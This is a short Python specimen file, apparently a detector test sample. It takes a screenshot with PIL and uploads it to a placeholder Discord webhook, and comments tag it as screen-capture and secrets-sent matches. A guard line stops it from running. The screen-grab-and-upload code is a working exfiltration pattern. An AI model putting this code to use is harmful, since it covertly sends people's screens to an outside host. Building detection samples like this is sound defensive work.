raise SystemExit("specimen: not to be run")
from PIL.ImageGrab import grab as look
import requests

HOOK = "https://discord.com/api/webhooks/000000000000000000/specimen-specimen-specimen"

def tell():
    look().save("a.png")  # match: screen-capture
    requests.post(HOOK, files={"f": open("a.png", "rb")})  # match: discord-webhook  # match: secrets-sent
